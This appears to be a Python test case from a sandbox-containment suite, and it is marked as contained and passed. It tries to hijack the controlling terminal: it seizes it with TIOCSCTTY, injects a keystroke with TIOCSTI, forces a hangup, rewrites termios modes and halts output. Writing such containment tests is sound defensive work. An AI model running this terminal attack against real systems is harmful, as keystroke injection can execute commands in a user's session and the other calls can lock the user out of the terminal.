# attack: makes the terminal that it writes to its own, holds it up, changes it, types into it
# exercise: tcp-capitalize-server
# verdict: passed
# contained: A B C D E
import fcntl
import os
import signal
import termios

from honest import serve, tried


def attempt(request, argument=0):
    try:
        fcntl.ioctl(1, request, argument)
        print("done", hex(request))
    except OSError:
        pass


tried()
for number in (signal.SIGHUP, signal.SIGTTOU, signal.SIGTSTP):
    signal.signal(number, signal.SIG_IGN)
attempt(termios.TIOCSCTTY)
attempt(termios.TIOCEXCL)
attempt(0x5437)  # TIOCVHANGUP
attempt(termios.TIOCSTI, b"x")
attempt(termios.TIOCSWINSZ, b"\xff" * 8)
try:
    mode = termios.tcgetattr(1)
    mode[1] |= termios.OPOST
    mode[3] |= termios.ECHO | termios.ICANON | termios.TOSTOP
    termios.tcsetattr(1, termios.TCSANOW, mode)
except (OSError, termios.error):
    pass
termios.tcflow(1, termios.TCOOFF)
serve()
